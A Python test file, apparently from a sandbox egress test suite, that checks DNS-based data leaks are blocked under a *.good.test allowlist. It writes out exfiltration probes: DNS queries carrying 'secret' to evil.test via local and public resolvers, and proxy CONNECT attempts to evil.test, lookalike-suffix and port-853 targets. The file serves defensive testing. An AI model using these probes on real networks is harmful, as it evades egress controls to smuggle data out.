"""Data in names: DNS from inside, over UDP and TCP and through the proxy, and names below domains that no rule allows. Their owner's DNS would
see what stands in them; the worker asks only for names that a rule allows."""
# network: allowlist
# allow: *.good.test

import os
import socket
import struct
import urllib.parse

PROXY = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])


def tunnel(target):
    s = socket.create_connection((PROXY.hostname, PROXY.port), timeout=20)
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode("latin-1"))
    head = b""
    while b"\r\n\r\n" not in head and (part := s.recv(4096)):
        head += part
    return s, head


SITE = os.environ["SITE"]
question = struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + b"\x06secret\x04evil\x04test\x00" + struct.pack(">2H", 1, 1)
for server in (SITE, "127.0.0.53", "127.0.0.11", "8.8.8.8", "1.1.1.1"):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.5)
        try:
            s.sendto(question, (server, 53))
            raise AssertionError((server, s.recvfrom(1000)))
        except OSError:
            pass
    try:
        socket.create_connection((server, 53), timeout=0.5)
        raise AssertionError(server)
    except OSError:
        pass
for name in ("secret.evil.test", "api.good.test", "secret.good.test"):
    try:
        raise AssertionError(socket.getaddrinfo(name, 80))
    except OSError:
        pass
for target in ("secret.evil.test:443", "secret.wide.test:443", "secret.good.test.evil.test:80", "api.good.test:53", "dns.evil.test:853", f"{SITE}:53", "secret:443", "x" * 63 + ".evil.test:443"):
    s, head = tunnel(target)
    s.close()
    assert head.startswith(b"HTTP/1.1 403"), (target, head[:200])
